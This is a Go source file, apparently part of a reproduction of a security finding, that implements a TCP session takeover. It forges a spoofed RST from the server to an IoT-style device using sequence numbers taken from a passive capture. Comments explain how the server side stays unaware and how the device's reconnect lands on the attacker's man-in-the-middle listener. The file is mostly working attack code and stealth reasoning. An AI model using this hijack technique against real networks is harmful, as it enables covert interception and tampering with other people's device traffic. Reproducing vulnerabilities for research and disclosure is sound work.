package core

import (
	"fmt"

	"repro/internal/ipnet"
	"repro/internal/sniff"
	"repro/internal/tcpsim"
)

// TakeOver moves an *already established* victim session behind the
// man-in-the-middle. Installing a hijack before the device connects is
// silent by construction; against a live session the attacker instead:
//
//  1. reads the flow's sequence state from c, a passive capture that
//     has watched the flow since its handshake,
//  2. forges a single RST to the device, spoofed from the server, with the
//     exact sequence number the device expects — the device's stack
//     accepts it and the session dies on the device side only,
//  3. swallows the device's stale segments (the divert rule is already
//     blackholing the old flow), so the *server* never sees the reset:
//     its side lingers half-open (Finding 2) and raises nothing,
//  4. waits: the device auto-reconnects within seconds, and the new
//     handshake lands on the attacker's spoofed listener.
//
// The server-side experience is indistinguishable from a device that went
// quiet and then opened a replacement connection — which real devices do
// all the time.
//
// TakeOver returns an error if the capture has not seen enough of the flow
// to forge a valid reset. The hijack (Install) must already be in place.
func (h *Hijacker) TakeOver(c *sniff.Capture) error {
	if !h.installed {
		return fmt.Errorf("core: install the hijack before taking over")
	}
	flow, ok := h.findVictimFlow(c)
	if !ok {
		return fmt.Errorf("core: no established %s->%s flow observed yet", h.target.DeviceAddr, h.target.ServerAddr)
	}
	// The device's rcv.nxt is the server-direction stream position.
	seq, ok := c.StreamSeq(flow, sniff.DirServerToClient)
	if !ok {
		return fmt.Errorf("core: server->device stream not yet observed")
	}
	rst := tcpsim.Segment{
		SrcPort: flow.Server.Port,
		DstPort: flow.Client.Port,
		Seq:     seq,
		Flags:   tcpsim.FlagRST | tcpsim.FlagACK,
	}
	return h.atk.IP.Send(ipnet.Packet{
		Src:     flow.Server.Addr,
		Dst:     flow.Client.Addr,
		Proto:   ipnet.ProtoTCP,
		Payload: rst.Marshal(),
	})
}

func (h *Hijacker) findVictimFlow(c *sniff.Capture) (sniff.FlowKey, bool) {
	for _, flow := range c.Flows() {
		if flow.Client.Addr == h.target.DeviceAddr &&
			flow.Server.Addr == h.target.ServerAddr &&
			flow.Server.Port == h.target.ServerPort {
			return flow, true
		}
	}
	return sniff.FlowKey{}, false
}
